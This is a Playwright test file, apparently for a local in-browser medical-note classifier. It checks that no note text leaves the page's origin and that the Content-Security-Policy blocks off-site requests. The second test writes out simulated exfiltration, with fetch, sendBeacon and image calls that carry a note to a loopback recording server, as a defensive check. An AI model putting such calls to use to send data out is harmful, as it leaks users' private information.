// Privacy, enforced: every request the page makes while loading a model, classifying and
// searching is recorded (the page's and its worker's); all go to the page's own origin, to an
// allowlist of the page's files, and none carries any part of a note in its URL, headers or
// body. Then the page and its worker try to reach another origin (a server on loopback that
// records what reaches it) and the Content-Security-Policy stops them.
// Run: node --test tests/browser/   (after `cargo build` and scripts/build-wasm.sh)
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { classifierBundle, launch, screenshot, serve, staticServer, watchPage, workDir } from './helpers.mjs';

const work = workDir('privacy');
// Notes with words that appear in none of the page's own URLs.
const NOTES = [
  'Mrs Quillfeather, DOB 03/07/1951, crushing retrosternal tightness after shovelling snow; troponin 845 ng/L.',
  'Wheezy breathlessness overnight, peak flow 210, salbutamol nebuliser given by Dr Okonkwo-Varga.',
  'Hyperglycaemia 27.3 mmol/L with ketonuria; insulin sliding scale commenced at Larkspur Ward.',
];
const DOCS = [
  'Zanthoxylum allergy documented in Fenwick family history.',
  'Pneumothorax drained at Thornbury clinic, recovering well.',
  'Gallstones removed laparoscopically by Mr Abernathy-Quist.',
];
const QUERY = 'Quillfeather chest tightness';
const COMPARE = ['Marrowby reports palpitations', 'Tachycardia noted by Pemberton-Sykes'];

/** Every word of 4+ letters of every text the page was given. */
const secrets = [...new Set([...NOTES, ...DOCS, QUERY, ...COMPARE].flatMap((t) => t.match(/[\p{L}\p{N}]{4,}/gu) ?? [])
  .map((w) => w.toLowerCase()))];

// The files the page may ask for.
const ALLOWED = new Set(['/', '/style.css', '/app.js', '/favicon.svg', '/model.gguf', '/widget/core.js', '/widget/docs.js',
  '/widget/worker.js', '/widget/wasm-build.js', '/pkg/bedside_runtime.js', '/pkg/bedside_runtime_bg.wasm',
  '/pkg/bedside_runtime_relaxed_bg.wasm']);

let server, foreign, browser, context, page, problems;
const requests = [];

describe('privacy', () => {
  before(async () => {
    const bundle = classifierBundle(work);
    server = await serve({ model: bundle });
    foreign = await staticServer(work);
    browser = await launch();
    context = await browser.newContext({ viewport: { width: 1100, height: 900 } });
    context.on('request', (r) => requests.push({
      url: r.url(), method: r.method(), headers: r.headers(), body: r.postDataBuffer()?.toString('latin1') ?? '',
    }));
    page = await context.newPage();
    problems = watchPage(page);
  });

  after(async () => {
    await browser?.close();
    await foreign?.stop();
    server?.stop();
  });

  test('load, classify, batch and search send nothing but requests for the page\'s own files', async () => {
    await page.goto(`${server.url}/`);
    await page.waitForSelector('body[data-model-ready="true"]', { timeout: 120_000 });

    for (const note of NOTES) {
      await page.fill('#note', note);
      await page.click('#classify-run');
      await page.waitForFunction(() => /ms on/.test(document.getElementById('classify-status').textContent));
      await page.evaluate(() => { document.getElementById('classify-status').textContent = ''; });
    }
    const notesFile = join(work, 'private-notes.csv');
    writeFileSync(notesFile, `id,text\n${NOTES.map((n, i) => `p${i},"${n}"`).join('\n')}\n`);
    await page.setInputFiles('#notes-file', notesFile);
    await page.waitForSelector('#batch-results:not([hidden])', { timeout: 60_000 });

    await page.fill('#docs-text', DOCS.join('\n'));
    await page.click('#index-build');
    await page.waitForFunction(() => /documents indexed/.test(document.getElementById('index-status').textContent), null, { timeout: 60_000 });
    await page.fill('#query', QUERY);
    await page.click('#search-run');
    await page.waitForFunction(() => document.getElementById('search-results').dataset.json);
    await page.fill('#compare-a', COMPARE[0]);
    await page.fill('#compare-b', COMPARE[1]);
    await page.click('#compare-run');
    await page.waitForFunction(() => document.getElementById('compare-result').dataset.cosine);
    await screenshot(page, 'privacy-after-use');

    const origin = new URL(server.url).origin;
    assert.ok(requests.length > 0);
    // The worker's requests are seen too (it fetches the wasm itself).
    // (Chromium has relaxed SIMD, so the worker takes that build.)
    assert.ok(requests.some((r) => r.url.endsWith('/pkg/bedside_runtime_relaxed_bg.wasm')), 'the worker\'s requests are recorded');
    for (const r of requests) {
      const url = new URL(r.url);
      assert.equal(url.origin, origin, `request to another origin: ${r.url}`);
      assert.ok(ALLOWED.has(url.pathname), `unexpected request: ${r.method} ${r.url}`);
      assert.ok(['GET', 'HEAD'].includes(r.method), `${r.method} ${r.url}`);
      const seen = `${r.url}\n${decodeURIComponent(r.url)}\n${JSON.stringify(r.headers)}\n${r.body}`.toLowerCase();
      for (const word of secrets) assert.ok(!seen.includes(word), `"${word}" from a note left in ${r.method} ${r.url}`);
    }
    assert.deepEqual(problems, []);
  });

  test('the policy is sent with the page and the worker, and it blocks other origins', async () => {
    const response = await page.goto(`${server.url}/`);
    const csp = response.headers()['content-security-policy'];
    assert.match(csp, /default-src 'self'/);
    assert.match(csp, /connect-src 'self'/);
    await page.waitForSelector('body[data-model-ready="true"]', { timeout: 120_000 });
    const worker = page.workers().find((w) => w.url().endsWith('/widget/worker.js'));
    assert.ok(worker, 'the model runs in a worker');

    // Another origin on loopback (another port), which records anything that reaches it.
    const target = `${foreign.url}/leak?note=${encodeURIComponent(NOTES[0])}`;
    const fromPage = await page.evaluate(async (url) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const outcomes = {};
      try { await fetch(url, { mode: 'no-cors' }); outcomes.fetch = 'sent'; } catch { outcomes.fetch = 'blocked'; }
      // sendBeacon answers true and is blocked later: what counts is that nothing arrives.
      navigator.sendBeacon(url, 'x');
      await new Promise((resolve) => {
        const img = new Image();
        img.onload = () => { outcomes.image = 'loaded'; resolve(); };
        img.onerror = () => { outcomes.image = 'blocked'; resolve(); };
        img.src = url;
      });
      await new Promise((r) => setTimeout(r, 300));
      return { outcomes, violations };
    }, target);
    const fromWorker = await worker.evaluate(async (url) => {
      try { await fetch(url, { mode: 'no-cors' }); return 'sent'; } catch { return 'blocked'; }
    }, target);
    await new Promise((r) => setTimeout(r, 300));

    assert.deepEqual(fromPage.outcomes, { fetch: 'blocked', image: 'blocked' });
    assert.equal(fromWorker, 'blocked');
    assert.ok(fromPage.violations.includes('connect-src') && fromPage.violations.includes('img-src'), fromPage.violations.join());
    assert.deepEqual(foreign.requests, [], 'nothing reached the other origin');
  });
});
